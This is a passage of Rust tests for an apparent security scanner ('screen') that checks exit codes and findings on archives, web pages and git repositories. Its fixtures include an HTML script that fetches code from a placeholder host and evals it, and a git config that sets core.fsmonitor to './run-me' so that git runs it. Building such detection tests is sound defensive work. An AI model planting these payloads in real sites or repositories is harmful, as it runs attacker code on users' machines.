    for (paths, exit) in [("a", 3), ("b", 0), ("c", 3), ("a b", 3), ("b a", 3)] {
        assert_eq!(desk.run(&format!("screen {paths} --fail-on block")).0, exit, "{paths}");
    }
    // A path that is not there is told before others are read.
    assert_eq!(desk.run("screen b nobody").0, 2);
    assert_eq!(desk.run("screen b --format sarif").0, 2);
}

#[test]
fn nothing_to_read_is_no_answer_and_pages_are_read() {
    let desk = Desk::new();
    let page = "<p>\n<script>fetch('https://a.invalid/x').then(r => r.text()).then(eval)</script>";
    put(
        &desk,
        &[
            ("zero.zip", ""),
            ("page/index.html", page),
            ("page/{{ x }}.html", "<script>f({{ x }})</script>"),
        ],
    );
    std::fs::create_dir(desk.path("empty")).unwrap();
    for path in ["zero.zip", "empty"] {
        let (code, found) = desk.run(&format!("screen {path}"));
        assert_eq!((code, missed(&found).len()), (3, 1), "{found}");
    }
    let (code, found) = desk.run("screen page");
    assert_eq!((code, &found["findings"][0]["line"], missed(&found)), (10, &2.into(), vec![]));
}

#[test]
fn what_git_makes_is_known_and_a_repository_of_any_name_may_run_something() {
    let desk = Desk::new();
    let dir = two_branches(&desk);
    git(&dir, "checkout -q main");
    git(&dir, "branch -q -D feature");
    std::fs::remove_dir_all(dir.join(".git/logs")).unwrap();
    git(&dir, "worktree add -q ../tree");
    git(&dir, "gc -q --cruft --prune=now");
    git(&desk.dir, "clone -q --bare repo bare");
    for path in ["repo", "bare", "tree"] {
        let (code, found) = desk.run(&format!("screen {path}"));
        assert_eq!((code, missed(&found)), (0, vec![]), "{path}");
    }
    // git runs this for whoever asks for the status in that folder.
    git(&desk.path("bare"), "config core.fsmonitor ./run-me");
    let (code, found) = desk.run("screen bare");
    assert!(matches!(code, 10 | 11) && found["findings"][0]["file"] == "config", "{found}");
}
